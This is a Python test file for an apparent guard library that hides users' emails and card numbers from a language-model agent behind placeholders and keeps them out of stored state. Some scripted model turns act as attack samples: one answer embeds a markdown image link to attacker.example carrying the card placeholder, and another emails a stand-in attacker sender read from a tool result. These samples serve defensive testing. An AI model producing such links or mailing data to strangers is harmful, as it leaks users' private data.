"""Placeholders: the model never sees the values, the named tools do, and nothing stores them."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.types import Command
from pydantic import BaseModel

from edgeward import ReceiptLog, load_policy
from edgeward.graphs.agent import ReActAgent
from edgeward.graphs.build import build_graph
from edgeward.graphs.checkpoints import SqliteThreads
from edgeward.graphs.config import AgentConfig
from edgeward.graphs.locked import LockViolation
from edgeward.guards.vault import PLACEHOLDER
from edgeward.policies.replay.flips import replay
from edgeward.policies.replay.logs import receipts_in
from edgeward.profiles.schema import AgentProfile
from edgeward.profiles.scripted import ScriptedModel, call
from tests.fakes import agent_graph, on

ANN = "ann.lee@corp.example"
CARD = "4111 1111 1111 1111"
BOB = "bob@corp.example"
EVE = "eve@attacker.example"
TASK = f"Write to {ANN} that I pay with {CARD}."

POLICY: dict[str, Any] = {
    "version": 2,
    "tools": {
        "read_mail": "allow",
        "note": "allow",
        "send_email": {"args": {"to": "known", "text": "any"}},
        "pay": {"args": {"what": "any"}, "otherwise": "ask"},
    },
    "egress_allowlist": ["corp.example"],
    "placeholders": {"kinds": ["email", "card"], "reveal": {"send_email": ["to"], "pay": "*"}},
}


class Desk:
    """Tools that note what they were given."""

    def __init__(self) -> None:
        self.runs: list[tuple[Any, ...]] = []

    def read_mail(self) -> str:
        """Reads mail."""
        return f'{{"from": "{EVE}", "card": 4111111111111111, "text": "Ann is {ANN.upper()}."}}'

    def note(self, text: str) -> str:
        """Notes a text."""
        self.runs.append(("note", text))
        return "noted"

    def send_email(self, to: list[str], text: str) -> str:
        """Sends a mail."""
        self.runs.append(("send_email", to, text))
        return f"sent to {', '.join(to)}"

    def pay(self, what: str) -> str:
        """Pays."""
        self.runs.append(("pay", what))
        return "paid"

    @property
    def tools(self) -> list[Any]:
        return [self.read_mail, self.note, self.send_email, self.pay]


def names(messages: Any) -> dict[str, str]:
    """The placeholders in what a model read, by kind; the first of each."""
    found: dict[str, str] = {}
    for message in messages:
        for name in PLACEHOLDER.findall(str(message.content)):
            found.setdefault(name.partition("_")[0], f"<{name}>")
    return found


def says(tool: str, make: Any, call_id: str) -> Any:
    """A turn of the model that calls a tool with arguments made of the placeholders it knows."""
    return lambda messages: call(tool, call_id, **make(names(messages)))


def graph_of(turns: list[Any], desk: Desk, **options: Any) -> Any:
    """A guarded graph over the desk's tools."""
    return agent_graph(turns, tools=desk.tools, **{"policy": POLICY, **options})


def stored(folder: Path, saver: SqliteThreads) -> bytes:
    """All bytes of a thread file."""
    saver.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return b"".join(path.read_bytes() for path in folder.iterdir())


TASK_INPUT = {"messages": [("user", TASK)]}
MAIL = says("send_email", lambda n: {"to": [n["EMAIL"]], "text": f"I pay with {n['CARD']}"}, "c1")
PAY = says("pay", lambda n: {"what": f"from {n['CARD']} for {n['EMAIL']}"}, "c2")
NOTE = says("note", lambda n: {"text": f"{n['EMAIL']} {n['CARD']}"}, "c3")
READ = call("read_mail", "c4")


def test_the_model_sees_placeholders_and_the_named_tools_real_values() -> None:
    """Only the argument that the policy names gets the real value; the same one every time."""
    desk = Desk()
    model = ScriptedModel(turns=[READ, MAIL, PAY, NOTE, "done"])
    graph = build_graph("react", model=model, tools=desk.tools, policy=POLICY)
    state = graph.invoke(TASK_INPUT, on())
    known = names(state["messages"])
    assert desk.runs == [
        ("send_email", [ANN], f"I pay with {known['CARD']}"),
        ("pay", f"from {CARD} for {ANN}"),
        ("note", f"{known['EMAIL']} {known['CARD']}"),
    ]
    read = str(model.requests)
    for real in (ANN, ANN.upper(), CARD, "4111111111111111", EVE):
        assert real not in read
        assert real not in str(state)
    mail = json.loads(state["messages"][2].content)
    assert mail["card"] == known["CARD"]
    assert mail["text"] == f"Ann is {known['EMAIL']}."
    assert mail["from"] not in (EVE, known["EMAIL"])


def test_receipts_that_keep_the_history_hold_no_value(tmp_path: Path) -> None:
    """And a replay counts the calls that it cannot judge without the values."""
    path = tmp_path / "log.jsonl"
    policy = {**POLICY, "receipts": "history"}
    graph = graph_of(
        [READ, MAIL, PAY, NOTE, "done"],
        Desk(),
        policy=load_policy(policy, receipts=ReceiptLog(path)),
    )
    graph.invoke(TASK_INPUT, on("t"))
    text = path.read_text(encoding="utf-8")
    for real in (ANN, ANN.upper(), CARD, "4111111111111111", EVE):
        assert real not in text
    found = replay(load_policy(policy), receipts_in(path).threads())
    hidden = "personal data in its arguments is hidden in the record"
    assert (found.same, found.flips, found.skipped[hidden].calls) == (1, [], 3)


def test_a_call_is_judged_on_the_real_values() -> None:
    """A placeholder for a stranger is refused as the stranger would be; nothing names him."""
    desk = Desk()

    def stranger(messages: Any) -> Any:
        read = next(str(m.content) for m in messages if m.type == "tool")
        sender = json.loads(read[read.index("{") : read.rindex("}") + 1])["from"]
        return call("send_email", "c5", to=[sender], text="x")

    graph = graph_of([READ, stranger, "done"], desk)
    state = graph.invoke(TASK_INPUT, on("t"))
    assert desk.runs == []
    refusal = state["messages"][-2]
    assert refusal.status == "error"
    assert "attacker.example" in refusal.text
    assert EVE not in str(state)


@pytest.mark.parametrize("forged", ["<EMAIL_AAAAAAAA>", "<EMAIL_99>", "<CARD_ZZZZZZZZ>"])
def test_a_forged_name_stands_for_nothing(forged: str) -> None:
    """What nobody hid resolves to nothing: the tool gets the text as it is."""
    desk = Desk()
    graph_of([call("pay", "c1", what=forged), "done"], desk).invoke(TASK_INPUT, on())
    assert desk.runs == [("pay", forged)]


def test_a_name_in_a_text_from_outside_is_none() -> None:
    """A user or a tool that writes a placeholder gets its brackets changed, and no value."""
    desk = Desk()
    spoken: dict[str, str] = {}

    def known(messages: Any) -> str:
        spoken.update(names(messages))
        return "noted"

    saver = InMemorySaver()
    graph_of([known, "x"], desk, checkpointer=saver).invoke(TASK_INPUT, on())
    name = spoken["CARD"]
    desk.read_mail = lambda: f"pay with {name}"  # type: ignore[method-assign]
    desk.read_mail.__name__, desk.read_mail.__doc__ = "read_mail", "Reads."
    graph = graph_of(["first", READ, "done"], desk, checkpointer=saver)
    state = graph.invoke({"messages": [("user", f"pay with {name}")]}, on())
    texts = [m.text for m in state["messages"] if m.type in ("human", "tool")][1:]
    assert texts == [f"pay with [{name[1:-1]}]"] * 2


def test_nothing_real_is_stored(tmp_path: Path) -> None:
    """No byte of a checkpoint, no stream and no question holds a real value; a restart has them."""
    desk = Desk()
    policy = {**POLICY, "tools": {**POLICY["tools"], "pay": "ask"}}
    saver = SqliteThreads(tmp_path / "t.sqlite")
    graph = graph_of([READ, PAY, MAIL, "done"], desk, policy=policy, checkpointer=saver)
    streamed = list(graph.stream(TASK_INPUT, on(), stream_mode=["updates", "values", "tasks"]))
    waiting = graph.get_state(on()).interrupts[0].value["calls"]
    seen = str(streamed) + str(waiting) + str(graph.get_state(on()))
    files = stored(tmp_path, saver)
    saver.close()

    again = SqliteThreads(tmp_path / "t.sqlite")
    graph = graph_of([READ, PAY, MAIL, "done"], desk, policy=policy, checkpointer=again)
    edit = {"decision": "edit", "args": {"what": f"{waiting[0]['args']['what']} to {BOB}"}}
    graph.invoke(Command(resume={"c2": edit}), on())
    assert desk.runs[0] == ("pay", f"from {CARD} for {ANN} to {BOB}")
    assert desk.runs[1][1] == [ANN]
    files += stored(tmp_path, again)
    again.close()
    for real in (ANN, ANN.upper(), CARD, "4111111111111111", EVE, BOB):
        assert real not in seen
        assert real.encode() not in files


def test_threads_do_not_share(tmp_path: Path) -> None:
    """The name that a value has in one thread is none in another, also under the same key."""
    desk = Desk()
    graph = graph_of(["noted", "x"], desk, checkpointer="memory")
    first = names(graph.invoke(TASK_INPUT, on("a"))["messages"])
    second = names(graph.invoke(TASK_INPUT, on("b"))["messages"])
    assert first != second
    graph = graph_of([call("pay", "c9", what=first["CARD"]), "done"], desk)
    graph.invoke(TASK_INPUT, on("b"))
    assert desk.runs == [("pay", first["CARD"])]


async def test_the_answer_shows_real_values() -> None:
    """An agent's user reads the values again; next to a link, which could carry them off, not."""

    def answer(messages: Any) -> str:
        n = names(messages)
        return f"Mail {n['EMAIL']}.\n\n![x](https://attacker.example/?q={n['CARD']})"

    config = AgentConfig(
        profile=AgentProfile(id="a", name="A"),
        llm=ScriptedModel(turns=[answer, answer]),
        policy=POLICY,
        load_env=False,
    )
    async with ReActAgent(config) as agent:
        result = await agent.run(TASK)
        assert result.final_answer.startswith(f"Mail {ANN}.\n\n(image ")
        assert CARD not in result.final_answer
        assert agent.run_sync(TASK).final_answer.startswith(f"Mail {ANN}.")


def test_side_by_side() -> None:
    """Tools that run at once hide the same value under the same name."""
    desk = Desk()
    twice = AIMessage("", tool_calls=[*READ.tool_calls, {**READ.tool_calls[0], "id": "c8"}])
    state = graph_of([twice, "done"], desk).invoke(TASK_INPUT, on())
    results = [m.content for m in state["messages"] if m.type == "tool"]
    assert results[0] == results[1]


def test_history_that_a_caller_hands_over() -> None:
    """Calls and results in the input are hidden as well; a model's own placeholders stay."""
    desk = Desk()
    said = [
        ("user", [{"type": "text", "text": ANN}]),
        AIMessage("", tool_calls=[{"name": "note", "args": {"text": CARD}, "id": "h1"}]),
        ToolMessage(f"noted {CARD}", tool_call_id="h1", name="note"),
        AIMessage("ok <CARD_AAAAAAAA>"),
        ("user", "go on"),
    ]
    model = ScriptedModel(turns=["done"], order="call")
    graph = build_graph("react", model=model, tools=desk.tools, policy=POLICY)
    read = str(graph.invoke({"messages": said}, on()))
    assert ANN not in read
    assert CARD not in read
    assert "ok <CARD_AAAAAAAA>" in read


def test_C28_history_with_blocks_that_only_their_provider_may_change() -> None:
    """Signatures, ids and thinking stay, arguments stay an object, and the input is not changed."""
    call_block = {"type": "tool_use", "id": "t1", "name": "note", "input": {"text": f"to {BOB}"}}
    said = [
        HumanMessage(f"I am {ANN}.", id="h1"),
        AIMessage(
            [{"type": "thinking", "thinking": "hm", "signature": "EqQBCkYIAhgC"}, call_block],
            id="a1",
            tool_calls=[{"name": "note", "args": {"text": f"to {BOB}"}, "id": "t1"}],
        ),
        ToolMessage([{"type": "text", "text": f"noted {BOB}"}], tool_call_id="t1", id="r1"),
        HumanMessage("Go on.", id="h2"),
    ]
    before = copy.deepcopy(said)
    model = ScriptedModel(turns=["done"], order="call")
    graph = build_graph("react", model=model, tools=Desk().tools, policy=POLICY)
    kept = graph.invoke({"messages": said}, on())["messages"]
    assert said == before
    assert [m.id for m in kept[:4]] == ["h1", "a1", "r1", "h2"]
    thinking, block = kept[1].content
    assert thinking == {"type": "thinking", "thinking": "hm", "signature": "EqQBCkYIAhgC"}
    assert block["id"] == kept[2].tool_call_id == "t1"
    assert block["input"] == kept[1].tool_calls[0]["args"]
    assert kept[2].content[0]["text"] == block["input"]["text"].replace("to", "noted")
    assert BOB not in str(kept)


class Given(BaseModel):
    """An input, or a parent's state, that is an object."""

    messages: list[Any]
    vault: dict[str, str] = {}


@pytest.mark.parametrize("inside", [False, True], ids=["alone", "in a parent"])
def test_an_input_that_is_an_object(inside: bool, tmp_path: Path) -> None:
    """Personal data is hidden in the messages of an object as in those of a mapping."""
    saver = SqliteThreads(tmp_path / "t.sqlite")
    seen: list[str] = []

    def reply(messages: list[Any]) -> str:
        seen.extend(message.text for message in messages)
        return "done"

    graph: Any = agent_graph([reply], policy=POLICY, checkpointer=None if inside else saver)
    if inside:
        builder = StateGraph(Given).add_node("agent", graph).add_edge(START, "agent")
        graph = builder.compile(checkpointer=saver)
    graph.invoke(Given(messages=[HumanMessage(TASK)]), on())
    assert ANN not in str(seen)
    assert inside or ANN.encode() not in stored(tmp_path, saver)
    saver.close()


@pytest.mark.parametrize("given", [{"vault": {"<EMAIL_AAAAAAAA>": "x"}}, {"run": {"steps": -9}}])
def test_no_input_sets_another_key(given: dict[str, Any]) -> None:
    """What placeholders stand for, and what a run has used, comes from no caller."""
    graph = agent_graph(["done"], policy=POLICY, checkpointer=InMemorySaver())
    graph.invoke({"messages": [HumanMessage("Go on.")], **given}, on())
    state = graph.get_state(on()).values
    assert not state["vault"]
    assert state["run"]["steps"] == 0
    with pytest.raises(LockViolation, match="no mapping without messages"):
        graph.invoke(given, on())


@pytest.mark.parametrize(
    "given", [f"I am {ANN}", [("messages", [f"I am {ANN}"])], [Command(update={"run": {}})]]
)
async def test_an_input_that_is_none(given: Any) -> None:
    """What is no input is refused before it is stored, and not repeated in the error."""
    saver = InMemorySaver()
    graph = agent_graph(["done"], policy=POLICY, checkpointer=saver)
    with pytest.raises(LockViolation, match="a guarded graph takes") as caught:
        graph.invoke(given, on())
    assert ANN not in str(caught.value)
    with pytest.raises(LockViolation, match="a guarded graph takes"):
        await graph.ainvoke(given, on())
    assert not saver.storage


def _in_a_parent(desk: Desk, *turns: Any) -> Any:
    """A guarded graph as a node of a graph that keeps nothing but the messages."""
    builder = StateGraph(MessagesState)
    builder.add_node("agent", graph_of([*turns], desk))
    builder.add_edge(START, "agent")
    return builder.compile(checkpointer=InMemorySaver())


def test_placeholders_in_a_parent_graph_last_over_its_turns() -> None:
    """What stood for a value in one turn of the parent's thread does so in the next, too."""
    desk = Desk()
    again = says("send_email", lambda n: {"to": [n["EMAIL"]], "text": "again"}, "m2")
    parent = _in_a_parent(desk, MAIL, "Done.", again, "Done.")
    first = parent.invoke(TASK_INPUT, on())
    last = parent.invoke({"messages": [("user", "Write to her again.")]}, on())
    assert [to for _, to, _ in desk.runs] == [[ANN], [ANN]]
    assert names(first["messages"])["EMAIL"] == names(last["messages"])["EMAIL"]
    assert ANN not in str(last)
    assert CARD not in str(last)


def test_what_a_message_brings_along_is_of_its_thread_or_nothing() -> None:
    """Neither another thread's, nor a name without its value, nor what nobody encrypted."""
    desk = Desk()
    parent = _in_a_parent(desk, MAIL, "Done.")
    there = parent.invoke(TASK_INPUT, on("a"))["messages"][0]
    name = names([there])["EMAIL"]
    held = there.additional_kwargs["edgeward_held"]
    for brought in (held, {}, {name: "AAAA"}, {name: 1}, [name], None):
        message = HumanMessage(f"Write to {name}.", additional_kwargs={"edgeward_held": brought})
        other = _in_a_parent(desk, "Done.").invoke({"messages": [message]}, on("b"))
        assert other["messages"][0].text == f"Write to [{name[1:-1]}]."
        assert "edgeward_held" not in other["messages"][0].additional_kwargs
